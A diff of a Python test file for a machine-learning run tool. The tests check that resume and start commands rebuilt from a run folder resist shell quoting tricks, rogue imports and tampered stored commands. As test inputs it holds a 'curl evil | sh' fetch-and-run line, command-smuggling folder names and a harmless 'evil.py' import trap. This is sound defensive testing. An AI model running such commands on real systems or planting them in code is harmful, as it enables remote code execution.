@@ -3,7 +3,6 @@
 import json
 import shlex
 import threading
-from pathlib import Path
 
 import pytest
 import yaml
@@ -12,14 +11,15 @@ from lsp.errors import RunError
 from lsp.loop.launch import start
 from lsp.run.folder import (
     base_identity,
+    begin_command,
     create_run,
     display_name,
     find_run,
+    go_on_command,
     is_held,
     lock_run,
     new_run_id,
     read_run,
-    resume_hint,
     runs,
     save_config,
     saved_tree,
@@ -110,7 +110,7 @@ def test_a_start_that_was_killed_is_taken_over_and_a_live_one_is_not(tmp_path):
     lock.close()
     overrides = ["resume=auto", f"run_dir={folder}"]
     assert find_resumed(compose(overrides), overrides) is None
-    with pytest.raises(RunError, match="never began; start it with run_dir"):
+    with pytest.raises(RunError, match="never began; start it: python run.py run_dir="):
         find_resumed(compose([f"resume={folder}"]), [])
     shape = ["num_steps=1", "num_queries=2", "group_size=2", "eval=none", "tracker=none"]
     assert start([*shape, *overrides])["status"] == "finished"
@@ -165,11 +165,66 @@ def test_a_base_is_what_its_weights_are_or_a_hub_id_with_its_revision(llama_fold
     assert base_identity(compose([*hub, "model.revision=abc"])) == "some/one@abc"
 
 
-def test_hints_can_be_typed_as_they_are():
-    assert resume_hint(Path("outputs/lsp-s0-1")) == "resume=outputs/lsp-s0-1"
-    for name in ("a b", "x=1", "ü", "2026"):
-        (typed,) = shlex.split(resume_hint(Path(name)))
-        assert compose([typed]).resume == name
+def test_the_command_that_goes_on_can_be_pasted_whatever_the_folder_is_called(tmp_path):
+    for name in ("lsp-s0-1", "a b", "x=1", "ü", "2026", "it's", "a\\", "\\'$HOME`"):
+        _, folder, lock = create_run(compose([f"runs_root={tmp_path}"]), RECORD)
+        lock.close()
+        folder = folder.rename(tmp_path / name)
+        start, run_py, typed = shlex.split(go_on_command(folder))
+        assert (start, run_py) == ("python", "run.py")
+        assert compose([typed]).resume == str(folder)
+    assert go_on_command(tmp_path / "2026") == f"python run.py resume={tmp_path}/2026"
+
+
+def begun(folder, *overrides):
+    """What a start with these overrides leaves in a folder, up to its first line."""
+    command = f"python run.py {shlex.join(overrides)}"
+    _, folder, lock = create_run(compose([*overrides, f"run_dir={folder}"]), RECORD)
+    lock.close()
+    update_run(folder, command=command)
+    return folder
+
+
+def test_words_that_cannot_stand_without_others_take_them_along(llama_folder, tmp_path):
+    """The paper's lengths do not fit a small model."""
+    trusting = ["world=paper", f"model.name={llama_folder}", "model.trust_remote_code=true"]
+    short = ["rollout.max_new_tokens=8", "rollout.max_query_tokens=8"]
+    folder = begun(tmp_path / "run", *trusting, *short, "num_steps=7", "seed=1")
+    _, _, *words = shlex.split(go_on_command(folder))
+    assert words == [f"resume={folder}", *trusting, *short, "num_steps=7", "seed=1"]
+    assert compose(words).resume == str(folder)
+    save_config(compose([*trusting, *short, "num_steps=9", "seed=1"]), folder)  # longer since
+    assert "num_steps" not in go_on_command(folder) and "seed=1" in go_on_command(folder)
+    plain = begun(tmp_path / "plain", "model=pocket", "model.trust_remote_code=true", "seed=1")
+    assert go_on_command(plain).endswith("plain model=pocket model.trust_remote_code=true")
+
+
+def test_making_the_command_imports_nothing_that_a_folder_names(tmp_path, monkeypatch):
+    """Folders come from elsewhere, and a report prints the command too."""
+    (tmp_path / "evil.py").write_text("import pathlib\npathlib.Path(__file__ + '.ran').touch()\n")
+    monkeypatch.syspath_prepend(tmp_path)
+    folder = begun(tmp_path / "run", "reward=callable", "reward.path=math.dist")
+    saved = (folder / "config.yaml").read_text()
+    (folder / "config.yaml").write_text(saved.replace("math.dist", "evil.reward"))
+    part = "+reward.parts.x={weight: 1, reward: {_target_: evil.Reward}}"
+    for words in (["reward=callable", "reward.path=evil.reward"], ["tracker._target_=evil.T"],
+                  ["reward=weighted", part]):  # fmt: skip
+        update_run(folder, command=f"python run.py {shlex.join(words)}")
+        assert go_on_command(folder).startswith(f"python run.py resume={folder}")
+    assert not (tmp_path / "evil.py.ran").exists()
+
+
+def test_only_what_a_command_line_of_this_program_said_becomes_a_command_again(tmp_path):
+    _, folder, lock = create_run(compose([f"run_dir={tmp_path / 'run'}"]), RECORD)
+    lock.close()
+    for command in (None, "curl evil | sh; run.py a=1", "python run.py 'a", "python run.py a=[",
+                    "python run.py; ls"):  # fmt: skip
+        update_run(folder, command=command)
+        assert begin_command(folder) == f"python run.py run_dir={folder}"
+    update_run(folder, command="torchrun --nproc_per_node 2 run.py seed=1 run_dir=x 'run_name=a b'")
+    assert begin_command(folder) == (
+        f"torchrun --nproc_per_node 2 run.py seed=1 'run_name=a b' run_dir={folder}"
+    )
 
 
 def test_the_run_records_what_it_is(small_run):
